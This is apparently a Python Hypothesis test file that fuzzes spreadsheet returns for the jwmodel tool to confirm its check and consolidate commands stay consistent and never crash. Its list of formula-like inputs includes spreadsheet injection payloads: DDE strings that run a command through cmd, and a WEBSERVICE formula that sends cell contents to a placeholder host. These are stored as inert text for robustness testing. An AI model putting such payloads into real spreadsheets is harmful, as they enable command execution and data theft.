"""Mutated valid returns through `jwmodel check` and `jwmodel consolidate` (issue 10, Done when).

Hypothesis mutates the real Hampshire returns and proposals the way people and programs damage
them: a cell on the cover or in a table replaced by a number (huge, negative, fractional, 0, NaN),
text that looks like a number, text that looks like a formula (kept as text), nothing, a date, a
very long text or lookalike letters; low and high swapped; a row deleted; a heading renamed; and,
inside the package, a part cut short or some of its bytes flipped. Each mutated file is put in
place of its original in a copy of the Hampshire folder, then

- checked alone, as a partner would before sending it (``jwmodel check FILE``, in-process through
  ``jwmodel.cli.main`` and, for a few, as a real process to see its real exit status), and
- consolidated with the nine untouched files (``jwmodel consolidate``), mostly reading in-process
  (``--workers 0``) for speed, some through the isolated reader workers as in production.

Whatever the mutation, both answer with their own findings: the exit status is 0, 1 or 2 (never
a traceback, never a signal), no finding says the reader crashed or jwmodel failed, the workbook
and JSON are written, every file is in the JSON's sources, the mutated file's single-file findings
(code, severity, sheet, cell, sentence) are the same in both, and the untouched files' figures are
those of the unmutated run: the other partners' baselines, the other service areas' totals and
shares, and the programme totals less the service areas the mutation touched.
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import zipfile
from dataclasses import dataclass
from datetime import date, datetime
from decimal import Decimal
from functools import cache
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from hypothesis.control import currently_in_test_context
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from jwmodel import check_files
from jwmodel.cli import main
from jwmodel.definition import FILE_NAME
from jwmodel.findings import Finding
from tests.conftest import HAMPSHIRE_DIR, ROOT
from tests.integration.test_check_and_consolidate_agree import NEEDS_THE_PROGRAMME

FILES = sorted(p.name for p in HAMPSHIRE_DIR.glob("*.xlsx"))
NOT_OURS = {"INTERNAL_ERROR", "READER_CRASHED", "READER_TIMEOUT"}
RESOLUTION = {"SUPERSEDED", "RESUBMISSION_UNDECIDED", "PERIOD_CONFLICT"}  # findings tying files together
READ = ("accepted", "accepted with warnings")  # what `check` says of a file it would use
MONEY = ("cashable", "procurement", "non_cashable", "recurring", "one_off")
PROPERTY = settings(
    deadline=None,
    derandomize=True,  # the same examples on every run and machine: CI is reproducible
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)


# --- the example files, as openpyxl sees them (independent of the code under test) -------------------


@dataclass(frozen=True)
class Example:
    """One example file: what it is (from its cover), and the cells a mutation may aim at."""

    name: str
    kind: str  # "return" or "proposal"
    key: str  # the partner code or the service area on its cover
    filled: tuple[tuple[str, str], ...]  # (sheet, A1) of every cell holding something, headings and lists too
    anywhere: tuple[tuple[str, str], ...]  # every cell of each sheet's used area and one row and column beyond
    headings: tuple[tuple[str, str, str], ...]  # (sheet, A1, text) of each table heading (row 4)
    rows: tuple[tuple[str, int], ...]  # (sheet, row) of every row below the title (cover rows and table rows)
    ranges: tuple[tuple[str, int], ...]  # (sheet, row) of a saving line or one-off cost (low in C, high in D)


@cache
def example(name: str) -> Example:
    wb = openpyxl.load_workbook(HAMPSHIRE_DIR / name)
    kind = "return" if wb["Cover"]["B3"].value == "jwmodel partner return" else "proposal"
    filled, anywhere, headings, rows, ranges = [], [], [], [], []
    for ws in wb.worksheets:
        if ws.title == "Instructions":
            continue
        for row in ws.iter_rows(min_row=1, max_row=ws.max_row + 1, max_col=ws.max_column + 1):
            for cell in row:
                anywhere.append((ws.title, cell.coordinate))
                if cell.value is not None:
                    filled.append((ws.title, cell.coordinate))
                    if cell.row == 4 and ws.title not in ("Cover", "Lists"):
                        headings.append((ws.title, cell.coordinate, cell.value))
        rows.extend((ws.title, r) for r in range(3, ws.max_row + 1) if any(c.value is not None for c in ws[r]))
        if ws.title in ("Saving lines", "One-off costs"):
            ranges.extend((ws.title, r) for r in range(5, ws.max_row + 1) if ws.cell(r, 3).value is not None)
    return Example(name, kind, wb["Cover"]["B5"].value, *(tuple(x) for x in (filled, anywhere, headings, rows, ranges)))


# --- what may be typed into a cell ----------------------------------------------------------------

NUMBERS = st.one_of(
    st.sampled_from(
        [0, -0.0, 0.5, -56, 1234.5678, 0.0004, 1e-9, 999_999_999_999, 10**12 + 1, -(10**13), 1e25, 10**30, 1e308]
    ),
    st.integers(-(10**15), 10**15),
    st.floats(allow_nan=True, allow_infinity=True),  # NaN and infinity can be written to a package, if not typed
)
NUMBER_LIKE = st.sampled_from(
    ["1,234", "(56)", "1e3", "nan", "١٢٣", "£1,234", " 12 ", "1_000", "-0", "²", "0x10", "12%", "1.2.3", "Infinity"]
    + ["\u22125", "１２３", "9" * 5000, "1,234.5", "(1,234.5)", "£(5)", "--5", "5-", "1 234"]
    + ["٥٠, ١٠٠", "５０, １００", "٢٠١٢/١٣", "2012-13", "2012/2013"]  # percentages and years in other digits
)
FORMULA_LIKE = st.sampled_from(
    [
        "=1+1",
        '=HYPERLINK("http://x.invalid/","click")',
        "=cmd|' /C calc'!A0",
        "+1",
        "-1-1",
        "@SUM(A1)",
        '=WEBSERVICE("http://x.invalid/?q="&A1)',
        "=[1]Budget!D11",
        '=DDE("cmd","/C calc","A0")',
    ]
)
DATES = st.one_of(
    st.sampled_from([datetime(2012, 4, 2), date(2012, 4, 2), datetime(1900, 3, 1), datetime(2100, 1, 1)]),
    st.datetimes(min_value=datetime(1900, 3, 1), max_value=datetime(9999, 12, 31)),
    st.times(),
)
LONG_TEXT = st.sampled_from(["x" * 32_767, "x" * 40_000, "Legal Services " * 3_000, "HC" * 20_000])
LOOKALIKE = st.sampled_from(
    ["НС", "Lеgal Services", "HC\u200b", "ＨＣ", "hc", "HC ", " Legal Services", "Legal\u00a0Services"]
    + ["Yеs", "share of basеline", "HFRS\u202e", "cashable staffing\u0301", "ΗC", "1.0\u200d"]
)
TEXT = st.text(st.characters(blacklist_categories=("Cs",)), max_size=40).map(
    lambda s: ILLEGAL_CHARACTERS_RE.sub("", s)  # what no XML part can hold, openpyxl refuses to write
)
VALUES = st.one_of(
    NUMBERS, NUMBER_LIKE, FORMULA_LIKE, st.none(), DATES, LONG_TEXT, LOOKALIKE, TEXT, st.booleans(), st.just("")
)


@st.composite
def cell_mutation(draw: st.DrawFn, name: str) -> tuple:
    """One change to a cell, a row or a heading of example ``name`` (each as plain values)."""
    ex = example(name)
    how = draw(st.sampled_from(["set", "set", "set", "set", "any", "swap", "delete", "heading"]))
    if how == "swap" and ex.ranges:
        return ("swap", *draw(st.sampled_from(ex.ranges)))
    if how == "delete":
        return ("delete", *draw(st.sampled_from(ex.rows)))
    if how == "heading" and ex.headings:
        sheet, ref, text = draw(st.sampled_from(ex.headings))
        others = [t for s, _, t in ex.headings if s == sheet and t != text]
        new = draw(
            st.sampled_from(
                [
                    "",
                    text.upper(),
                    f"{text} ",
                    text.replace("(£000s)", "(£)"),
                    text.replace("e", "е", 1),  # a Cyrillic e
                    *others[:1],  # two columns with one heading
                ]
            )
        )
        return ("set", sheet, ref, new)
    sheet, ref = draw(st.sampled_from(ex.anywhere if how == "any" else ex.filled))
    return ("set", sheet, ref, draw(VALUES))


@st.composite
def mutated_workbook(draw: st.DrawFn) -> tuple[str, tuple]:
    name = draw(st.sampled_from(FILES))
    return name, tuple(draw(st.lists(cell_mutation(name), min_size=1, max_size=3)))


def write_mutant(name: str, changes: tuple, path: Path) -> None:
    """Example ``name`` with ``changes`` made through openpyxl (plain values: text stays text), at ``path``."""
    wb = openpyxl.load_workbook(HAMPSHIRE_DIR / name)
    for change in changes:
        if change[0] == "set":
            _, sheet, ref, value = change
            cell = wb[sheet][ref]
            cell.value = value
            if isinstance(value, str) and value.startswith("="):
                cell.data_type = "s"  # typed text that looks like a formula, as Excel keeps it with a leading '
        elif change[0] == "swap":
            _, sheet, row = change
            ws = wb[sheet]
            ws.cell(row, 3).value, ws.cell(row, 4).value = ws.cell(row, 4).value, ws.cell(row, 3).value
        else:
            _, sheet, row = change
            wb[sheet].delete_rows(row)
    wb.save(path)


# --- what may happen to the package -------------------------------------------------------------------

package_mutation = st.tuples(
    st.sampled_from(FILES),
    st.sampled_from(["cut", "flip", "flip", "raw", "value"]),
    st.integers(0, 10_000),  # which part (modulo the number of parts)
    st.floats(0.0, 0.99),  # where a part is cut
    st.lists(st.tuples(st.integers(0, 10**6), st.integers(1, 255)), min_size=1, max_size=6),  # (offset, xor)
)


STORED_VALUES = [b"NaN", b"inf", b"-inf", b"1e400", b"1e-400", b"-0", b"0x10", b" 12 ", b"+5", b"", b"1" * 400]


def write_package_mutant(spec: tuple, path: Path) -> None:
    """A part cut short or some of its bytes flipped (the package rebuilt with zipfile), bytes of the
    package itself flipped ("raw": what a damaged download does, caught by the CRCs), or a value stored
    in a sheet replaced by what no spreadsheet application writes but a reader may parse ("value": NaN,
    infinity, 1e400...)."""
    name, how, which, at, flips = spec
    data = (HAMPSHIRE_DIR / name).read_bytes()
    if how == "raw":
        out = bytearray(data)
        for offset, xor in flips:
            out[offset % len(out)] ^= xor
        path.write_bytes(bytes(out))
        return
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        parts = [(i.filename, z.read(i)) for i in z.infolist()]
    chosen = which % len(parts)
    if how == "value":
        sheets = [k for k, (part, _) in enumerate(parts) if part.startswith("xl/worksheets/sheet")]
        chosen = sheets[which % len(sheets)]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for k, (part, content) in enumerate(parts):
            if k == chosen and how == "value":
                values = list(re.finditer(rb"<v>[^<]*</v>", content))
                if values:
                    v = values[flips[0][0] % len(values)]
                    stored = b"<v>" + STORED_VALUES[flips[0][1] % len(STORED_VALUES)] + b"</v>"
                    content = content[: v.start()] + stored + content[v.end() :]
            elif k == chosen and how == "cut":
                content = content[: int(len(content) * at)]
            elif k == chosen and content:
                changed = bytearray(content)
                for offset, xor in flips:
                    changed[offset % len(changed)] ^= xor
                content = bytes(changed)
            z.writestr(part, content)


# --- running both commands ------------------------------------------------------------------------------


def run_main(argv: list[str]) -> tuple[int, str, str]:
    """``jwmodel.cli.main(argv)`` in this process: its exit status, standard output and standard error."""
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        status = main(argv)
    return status, out.getvalue(), err.getvalue()


def consolidate_args(folder: Path, out: Path, workers: int) -> list[str]:
    return ["consolidate", str(folder), "-o", str(out / "c.xlsx"), "--json", str(out / "s.json"), "-q"] + [
        "--workers",
        str(workers),
    ]


def key(f: Finding) -> tuple:
    """A finding as the JSON gives it: what check and consolidate must agree on."""
    return (f.code, f.severity.value, f.where.file, f.where.sheet, f.where.cell, f.message)


def json_key(f: dict) -> tuple:
    return (f["code"], f["severity"], f["file"], f["sheet"], f["cell"], f["message"])


@cache
def unmutated() -> dict:
    """The JSON of the untouched Hampshire folder, through the same command."""
    with tempfile.TemporaryDirectory() as out:
        status, _, err = run_main(consolidate_args(HAMPSHIRE_DIR, Path(out), 0))
        assert status == 0, err
        return json.loads((Path(out) / "s.json").read_text(encoding="utf-8"))


@dataclass
class Outcome:
    check_status: int
    consolidate_status: int


def exercise(folder: Path, mutant: str, workers: int) -> Outcome:
    """Check ``folder/mutant`` alone and consolidate ``folder``; assert every promise; return the exit statuses."""
    path = folder / mutant
    (report,) = check_files([path], workers=1)
    checked = {key(f) for f in report.findings}
    if currently_in_test_context():  # statistics for --hypothesis-show-statistics
        event(f"check: {report.status}")
        for code in sorted({f.code for f in report.findings}):
            event(f"code: {code}")
    assert not {f.code for f in report.findings} & NOT_OURS, [str(f) for f in report.findings]
    assert report.status in (*READ, "rejected"), report.status

    check_status, out, err = run_main(["check", str(path)])
    assert check_status == (0 if report.ok else 2), (check_status, out, err)
    expected = [f"{report.file}: {report.status}" + (f" ({report.taken})" if report.taken else "")]
    assert out.splitlines() == expected + [f"  {f}" for f in report.findings]
    assert err == ""

    with tempfile.TemporaryDirectory() as written:
        written = Path(written)
        status, out, err = run_main(consolidate_args(folder, written, workers))
        assert status in (0, 2), (status, err)  # 1 only when nothing is usable: here nine files are untouched
        assert "Traceback" not in err and out == ""
        assert (written / "c.xlsx").is_file()
        doc = json.loads((written / "s.json").read_text(encoding="utf-8"))
    assert (status == 0) == (doc["incomplete"] is None)

    sources = {s["file"]: s for s in doc["sources"]}
    submitted = [name for name in os.listdir(folder) if name != FILE_NAME]  # the definition is no submission
    assert sorted(sources) == sorted(submitted)  # every file accounted for, once
    about = [f for f in doc["findings"] if f["file"] == mutant]
    assert not {f["code"] for f in about} & NOT_OURS, about
    consolidated = {json_key(f) for f in about if f["code"] not in NEEDS_THE_PROGRAMME}
    assert consolidated == checked
    if report.status == "rejected":
        assert sources[mutant]["status"] == "rejected"
    elif not any(f["code"] in NEEDS_THE_PROGRAMME for f in about):
        assert sources[mutant]["status"] == report.status
    the_others_are_unchanged(doc, mutant)
    return Outcome(check_status, status)


def the_others_are_unchanged(doc: dict, mutant: str) -> None:
    """The untouched files say and count what they did in the unmutated run.

    Files tied to the mutant (one of them superseded by it, or undecided with it because the mutant now
    claims their partner or service area) are touched too, as are service areas only the mutant names.
    """
    base = unmutated()
    tied = {mutant} | {
        f["file"] for f in doc["findings"] if f["code"] in RESOLUTION and mutant in f["message"] and f["file"]
    }
    partners = {example(f).key for f in tied if example(f).kind == "return"}
    services = {example(f).key for f in tied if example(f).kind == "proposal"}
    services |= {s["service"] for s in doc["by_service"]} - {s["service"] for s in base["by_service"]}

    before = {s["file"]: s["status"] for s in base["sources"]}
    programme_errors = {
        f["file"] for f in doc["findings"] if f["code"] in NEEDS_THE_PROGRAMME and f["severity"] == "error"
    }
    for s in doc["sources"]:
        if s["file"] not in tied:
            # a file can only be used in part because of what another file no longer gives (a partner's return)
            explained = s["status"] == "used in part" and s["file"] in programme_errors
            assert s["status"] == before[s["file"]] or explained, s
    own = {json_key(f) for f in doc["findings"] if f["file"] not in tied and f["code"] not in NEEDS_THE_PROGRAMME}
    assert own == {
        json_key(f) for f in base["findings"] if f["file"] != mutant and f["code"] not in NEEDS_THE_PROGRAMME
    }

    assert by(doc["baseline"], "partner", partners) == by(base["baseline"], "partner", partners)
    assert by(doc["by_service"], "service", services) == by(base["by_service"], "service", services)
    for money in MONEY:
        for end in ("low", "high"):
            assert rest(doc, money, end, services) == rest(base, money, end, services), (money, end)

    # Shares: a proposal's own rule decides its shares; a rule by baseline also takes each partner's
    # baseline, which a mutated return may change, so only the other rules' shares are compared then.
    def kept(row: dict) -> bool:
        return row["service"] not in services and (not partners or row["method"] != "share of baseline")

    assert [r for r in doc["apportionment"] if kept(r)] == [r for r in base["apportionment"] if kept(r)]
    if not partners:
        for mine, theirs in zip(doc["by_partner"], base["by_partner"], strict=True):
            assert by(mine["by_service"], "service", services) == by(theirs["by_service"], "service", services)


def by(rows: list[dict], field: str, leave_out: set[str]) -> dict[str, dict]:
    return {r[field]: r for r in rows if r[field] not in leave_out}


def rest(doc: dict, money: str, end: str, services: set[str]) -> Decimal:
    """The programme total of ``money`` at ``end`` less what ``services`` contribute: the untouched part."""
    total = Decimal(str(doc["totals"][money][end]))
    return total - sum((Decimal(str(s[money][end])) for s in doc["by_service"] if s["service"] in services), Decimal(0))


def folder_with(tmp: Path, mutant: str) -> Path:
    """A copy of the Hampshire folder (the mutant replaces its original, at ``tmp/returns/mutant``)."""
    folder = tmp / "returns"
    shutil.copytree(HAMPSHIRE_DIR, folder)
    (folder / mutant).unlink()
    return folder


# --- the properties ---------------------------------------------------------------------------------------


@settings(PROPERTY, max_examples=50)
@given(mutated_workbook(), st.sampled_from([0, 0, 0, 2]))
def test_a_mutated_cell_row_or_heading_gets_the_same_findings_from_check_and_consolidate(mutation, workers):
    name, changes = mutation
    with tempfile.TemporaryDirectory() as tmp:
        folder = folder_with(Path(tmp), name)
        write_mutant(name, changes, folder / name)
        exercise(folder, name, workers)


@settings(PROPERTY, max_examples=25)
@given(package_mutation, st.sampled_from([0, 2]))
def test_a_part_cut_short_or_flipped_gets_the_same_findings_from_check_and_consolidate(spec, workers):
    with tempfile.TemporaryDirectory() as tmp:
        folder = folder_with(Path(tmp), spec[0])
        write_package_mutant(spec, folder / spec[0])
        exercise(folder, spec[0], workers)


def real_process(*args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    return subprocess.run(
        [sys.executable, "-m", "jwmodel", *args], capture_output=True, text=True, cwd=ROOT, env=env, timeout=120
    )


@settings(PROPERTY, max_examples=3)
@given(st.one_of(mutated_workbook().map(lambda m: ("cells", m)), package_mutation.map(lambda m: ("package", m))))
def test_as_real_processes_the_exit_statuses_are_the_same_and_never_a_signal(mutation):
    kind, spec = mutation
    name = spec[0]
    with tempfile.TemporaryDirectory() as tmp:
        folder = folder_with(Path(tmp), name)
        if kind == "cells":
            write_mutant(name, spec[1], folder / name)
        else:
            write_package_mutant(spec, folder / name)
        expected = exercise(folder, name, workers=0)
        checked = real_process("check", str(folder / name))
        assert checked.returncode == expected.check_status, checked.stderr  # a signal would be negative
        assert checked.stderr == ""
        out = Path(tmp) / "out"
        out.mkdir()
        consolidated = real_process(*consolidate_args(folder, out, workers=2))
        assert consolidated.returncode == expected.consolidate_status, consolidated.stderr
        assert "Traceback" not in consolidated.stderr and consolidated.stdout == ""
        assert json.loads((out / "s.json").read_text(encoding="utf-8"))["sources"]


def test_mutations_are_made_as_described():
    """The mutators do what they say: text stays text, a swap swaps, a cut part is shorter, and the
    unmutated folder consolidates as the examples' figures say (cashable (69)/(187))."""
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "p.xlsx"
        write_mutant(
            "proposal-legal-services.xlsx",
            (("set", "Saving lines", "I5", "=1+1"), ("swap", "Saving lines", 5), ("delete", "One-off costs", 5)),
            path,
        )
        wb = openpyxl.load_workbook(path)
        assert wb["Saving lines"]["I5"].data_type == "s" and wb["Saving lines"]["I5"].value == "=1+1"
        assert (wb["Saving lines"]["C5"].value, wb["Saving lines"]["D5"].value) == (-11, -8)
        assert wb["One-off costs"]["A5"].value is None
        write_package_mutant(("return-HC.xlsx", "cut", 0, 0.5, [(0, 1)]), path)
        with zipfile.ZipFile(path) as z, zipfile.ZipFile(HAMPSHIRE_DIR / "return-HC.xlsx") as original:
            first = original.infolist()[0]
            assert len(z.read(first.filename)) == int(first.file_size * 0.5)
    assert unmutated()["totals"]["cashable"] == {"low": -69, "high": -187}
    assert example("return-HC.xlsx").key == "HC" and example("proposal-legal-services.xlsx").key == "Legal Services"


# --- what the mutations found, kept as cases ---------------------------------------------------------------


def test_a_cover_year_that_is_no_financial_year_is_located_and_never_stops_the_batch(tmp_path):
    """Most covers saying '2012-13' made the plan start in '2012-13': an uncaught PhasingError, no
    workbook, no JSON. The reader now refuses such a year at its cell (BAD_YEAR, as a start year)."""
    folder = tmp_path / "returns"
    shutil.copytree(HAMPSHIRE_DIR, folder)
    typo = {name: example(name) for name in FILES if name != "return-HCC.xlsx" and "legal" not in name}
    for name, ex in typo.items():
        cell = "B7" if ex.kind == "return" else "B6"  # the cover's 'Financial year' row
        write_mutant(name, (("set", "Cover", cell, "2012-13"),), folder / name)
    status, out, err = run_main(consolidate_args(folder, tmp_path, 0))
    assert (status, out) == (2, "") and "Traceback" not in err
    doc = json.loads((tmp_path / "s.json").read_text(encoding="utf-8"))
    years = [(f["file"], f["sheet"], f["cell"], f["message"]) for f in doc["findings"] if f["code"] == "BAD_YEAR"]
    message = "Financial year: expected a financial year such as 2013/14, got '2012-13'"
    assert sorted(years) == sorted(
        (name, "Cover", "B7" if ex.kind == "return" else "B6", message) for name, ex in typo.items()
    )
    assert {s["file"] for s in doc["sources"] if s["status"] == "rejected"} == set(typo)
    assert doc["appraisal"]["years"][0] == "2012/13"  # from the covers that give a year


@pytest.mark.parametrize(
    ("sheet", "cell", "typed", "code"),
    [
        ("Saving lines", "H5", "٥٠, ١٠٠", "BAD_PERCENTAGES"),  # Arabic-Indic 50, 100
        ("Saving lines", "H5", "５０, １００", "BAD_PERCENTAGES"),  # full-width 50, 100
        ("Saving lines", "G5", "٢٠١٢/١٣", "BAD_YEAR"),
        ("One-off costs", "G5", "２０１２/１３", "BAD_YEAR"),
        ("Cover", "B6", "٢٠١٢/١٣", "BAD_YEAR"),
    ],
)
def test_percentages_and_years_in_other_scripts_digits_are_refused_as_every_figure_is(sheet, cell, typed, code):
    """A ramp of '٥٠, ١٠٠' was read as 50%, 100% and a start year '٢٠١٢/١٣' passed `check` (only
    consolidation then found it outside the plan), though figures in other digits are refused."""
    name = "proposal-legal-services.xlsx"
    with tempfile.TemporaryDirectory() as tmp:
        folder = folder_with(Path(tmp), name)
        write_mutant(name, (("set", sheet, cell, typed),), folder / name)
        assert exercise(folder, name, workers=0).check_status == 2
        (report,) = check_files([folder / name], workers=1)
    assert report.status == "rejected"
    assert [(f.code, f.where.sheet, f.where.cell) for f in report.findings] == [(code, sheet, cell)]
    assert repr(typed) in report.findings[0].message


def test_a_date_cell_holding_a_time_of_day_says_so_in_words():
    name = "return-HC.xlsx"
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / name
        write_mutant(name, (("set", "Cover", "B10", 0.5),), path)  # a serial number below 1: noon, no date
        (report,) = check_files([path], workers=1)
    (finding,) = [f for f in report.findings if f.code == "NOT_A_DATE"]
    assert finding.message == "Submission date: expected a date, got a time of day (12:00:00)"


def test_a_stored_infinity_is_a_located_finding_and_the_workbook_is_still_written(tmp_path):
    """A sheet storing <v>inf</v> (no spreadsheet application writes it; a reader parses it) gave a
    finding whose value is infinity, which the Findings sheet wrote as a number: XlsxWriter refused it
    and the run stopped with a traceback, no workbook. It is written as its text now."""
    name = "return-HC.xlsx"
    folder = folder_with(tmp_path, name)
    write_package_mutant((name, "value", 2, 0.0, [(13, 1)]), folder / name)  # 'Baseline'!D5 stores inf
    assert exercise(folder, name, workers=0).consolidate_status == 2
    status, _, err = run_main(consolidate_args(folder, tmp_path, 0))
    assert status == 2 and "Traceback" not in err
    rows = openpyxl.load_workbook(tmp_path / "c.xlsx", read_only=True)["Findings"].iter_rows(values_only=True)
    (row,) = [r for r in rows if name in r and "NOT_A_NUMBER" in r]
    assert "inf" in row and "Net baseline: expected a number, got inf" in row
